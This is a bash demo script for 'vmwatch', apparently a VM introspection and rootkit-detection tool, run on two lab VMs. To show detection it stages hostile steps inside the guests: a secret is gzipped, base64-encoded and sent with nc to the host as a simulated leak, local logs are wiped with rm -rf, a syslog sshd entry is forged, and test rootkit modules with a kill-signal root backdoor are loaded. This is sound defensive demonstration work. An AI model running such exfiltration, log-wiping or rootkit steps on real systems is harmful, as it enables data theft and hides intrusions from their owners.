#!/usr/bin/env bash
# The main job: boots two lab VMs (Debian's 6.1 and 6.12 kernels, KASLR on),
# starts a small workload in each through the test agent, and shows what
# vmwatch reads from their RAM from outside: where the kernel is, processes,
# open files, sockets and modules; then live syscalls through vmwatchd, and
# the spread of a registered secret file across both VMs (diffusion
# tracking), and application logs kept in a tamper-evident vault outside
# the guest; then test rootkits loaded in both guests, found by integrity
# scans and seen in xftrace's call flow. Leaves the VMs running with --keep.
set -euo pipefail
cd "$(dirname "$0")/.."
scripts/setup.sh
V=target/release/vmwatch
keep=0; [ "${1:-}" = "--keep" ] && keep=1
vms=(demo-web demo-db)
flavours=(stable backports)
cleanup() { [ $keep = 1 ] || for vm in "${vms[@]}"; do $V lab down "$vm" >/dev/null 2>&1 || true; done; }
trap cleanup EXIT
for i in 0 1; do
    $V lab down "${vms[$i]}" >/dev/null 2>&1 || true
    $V lab up "${vms[$i]}" --kernel "${flavours[$i]}"
done
# The workload (driven through the test-only agent; vmwatch never asks it anything).
for vm in "${vms[@]}"; do
    $V lab exec "$vm" -- sh -c '
        echo "quarterly numbers" > /root/secret.txt
        setsid sleep 100000 < /root/secret.txt >/dev/null 2>&1 &
        setsid sh -c "sleep 100001 | sleep 100002" </dev/null >/dev/null 2>&1 &
        setsid /usr/bin/nc -lk 8080 </dev/null >/dev/null 2>&1 &
        sleep 1; python3 -c "import socket; socket.create_connection((\"127.0.0.1\", 8080)).close()" 2>/dev/null || true
        modprobe dummy' >/dev/null
done
sleep 1
for vm in "${vms[@]}"; do
    echo
    echo "================ $vm: what vmwatch sees from outside the guest ================"
    echo "--- vmwatch kernel --vm $vm"; $V kernel --vm "$vm"
    echo "--- vmwatch ps --vm $vm (user processes)"; $V ps --vm "$vm" | grep -v '\[kernel\]'
    echo "--- vmwatch lsof --vm $vm (regular files and pipes)"; $V lsof --vm "$vm" | grep -E 'PATH|regular|pipe'
    echo "--- vmwatch sockets --vm $vm"; $V sockets --vm "$vm"
    echo "--- vmwatch modules --vm $vm"; $V modules --vm "$vm"
done
echo
echo "================ both VMs: live syscalls, seen by the hook plugin in QEMU, through vmwatchd ================"
export VMWATCHD_DIR="$(mktemp -d)"   # the demo's own daemon (socket, token)
target/release/vmwatchd --watch demo-web --watch demo-db 2>/dev/null &
daemon=$!
trap 'kill $daemon 2>/dev/null || true; cleanup' EXIT
for _ in $(seq 50); do $V daemon status >/dev/null 2>&1 && break; sleep 0.1; done
echo "--- vmwatch trace --vm '*' --syscall openat,read,write,close,execve,copy_file_range,sendfile --fds --comm cp (while each guest copies its secret)"
$V trace --vm '*' --syscall openat,read,write,close,execve,copy_file_range,sendfile --fds --comm cp --duration 8 &
tracer=$!
sleep 2
for vm in "${vms[@]}"; do
    $V lab exec "$vm" -- sh -c 'cp /root/secret.txt /root/copy.txt' >/dev/null
done
wait $tracer || true
echo
echo "================ diffusion: where demo-web's /root/secret.txt goes, across both VMs ================"
echo "--- vmwatch track add --vm demo-web /root/secret.txt"
$V track add --vm demo-web /root/secret.txt
db_ip=$($V lab info demo-db | python3 -c 'import json,sys; print(json.load(sys.stdin)["network"]["lan_ip"])')
# demo-db receives whatever arrives on port 9000 into a file; demo-web copies
# its secret, compresses it through a pipeline, and sends it to demo-db and to
# the host (a leak).
python3 -c 'import socket; s=socket.socket(); s.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1); s.bind(("127.0.0.1", 18099)); s.listen(1); s.settimeout(20); c,_=s.accept(); c.recv(65536)' &
host_rx=$!
$V lab exec demo-db -- sh -c 'setsid python3 -c "
import socket
s = socket.socket(); s.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
s.bind((\"0.0.0.0\", 9000)); s.listen(1); c, _ = s.accept()
open(\"/root/from-web.txt\", \"wb\").write(c.recv(65536))
" </dev/null >/dev/null 2>&1 &' >/dev/null
sleep 1
$V lab exec demo-web -- sh -c "
cp /root/secret.txt /root/copy2.txt
cat /root/secret.txt | gzip | base64 > /root/secret.b64
python3 -c 'import socket; s = socket.create_connection((\"$db_ip\", 9000)); s.sendall(open(\"/root/secret.b64\", \"rb\").read()); s.close()'
nc -w 2 10.0.2.2 18099 < /root/copy2.txt || true
" >/dev/null
wait $host_rx 2>/dev/null || true
sleep 3
echo "--- vmwatch diffusion log (both VMs: one line per newly managed object, removal, leak or flow)"
$V diffusion log
echo "--- vmwatch diffusion show --vm demo-db (the graph now; left objects marked)"
$V diffusion show --vm demo-db
echo
echo "================ log vault: syslog() leaves the guest through the hypervisor, not its kernel ================"
$V lab exec demo-web -- sh -c '
python3 -c "import syslog; syslog.openlog(\"billing\", syslog.LOG_PID); syslog.syslog(\"invoice 4711 paid\"); syslog.syslog(syslog.LOG_WARNING, \"card declined for customer 42\")"
rm -rf /var/log/*   # a root-kit wiping the local logs changes nothing outside
python3 -c "import syslog; syslog.openlog(\"sshd\", syslog.LOG_PID); syslog.syslog(syslog.LOG_AUTH | syslog.LOG_INFO, \"Accepted password for root\")"
' >/dev/null
sleep 2
echo "--- vmwatch logs --vm demo-web (exe and uid read from guest RAM; a syslog tag that is not the sender's name, e.g. python3 calling itself sshd, is flagged)"
$V logs --vm demo-web
echo "--- vmwatch logs verify --vm demo-web"
$V logs verify --vm demo-web
echo "--- vmwatch logs --vm demo-web --rfc5424 (for a syslog collector)"
$V logs --vm demo-web --rfc5424 | head -n 1
echo
echo "================ rootkits: found from outside, without pausing the guests ================"
echo "--- vmwatch scan --vm demo-web (clean)"; $V scan --vm demo-web || true
kmods=${VMWATCH_CACHE:-$HOME/.cache/vmwatch}/kmods
for i in 0 1; do
    vm=${vms[$i]}; rel=$($V lab info "$vm" | python3 -c 'import json,sys; print(json.load(sys.stdin)["kernel_release"])')
    for m in rk_syscall rk_seqops rk_lstar; do
        $V lab exec "$vm" -- sh -c "cat > /root/$m.ko" < "$kmods/$rel/$m.ko"
    done
    # rk_syscall hides files named rkhide_* and makes `kill -64` a root
    # backdoor; rk_seqops hides port 31337 from /proc/net/tcp; rk_lstar
    # msr=sysenter points every CPU's SYSENTER_EIP MSR into itself.
    $V lab exec "$vm" -- sh -c 'touch /tmp/rkhide_loot; insmod /root/rk_syscall.ko; insmod /root/rk_seqops.ko port=31337
        insmod /root/rk_lstar.ko msr=sysenter
        echo "    inside $(hostname): ls /tmp shows [$(ls /tmp)], yet cat /tmp/rkhide_loot works"'
done
sleep 2
echo "--- vmwatch alerts (vmwatchd scans every watched VM every second)"
$V alerts
for vm in "${vms[@]}"; do
    echo "--- vmwatch scan --vm $vm"; $V scan --vm "$vm" || true
done
echo "--- vmwatch xftrace on --vm demo-db sys_getdents64; ls /tmp in the guest; vmwatch xftrace off (the hooked call flow)"
$V xftrace on --vm demo-db sys_getdents64
$V lab exec demo-db -- ls /tmp >/dev/null
$V xftrace off --vm demo-db --out /tmp/vmwatch-demo-trace_graph.txt
grep -n -m3 -B2 -A3 'rk_syscall' /tmp/vmwatch-demo-trace_graph.txt || true
echo "--- vmwatch daemon status"
$V daemon status
kill $daemon 2>/dev/null || true
echo
$V lab ls
[ $keep = 1 ] && echo "VMs left running; stop them with: $V lab down --all"
exit 0
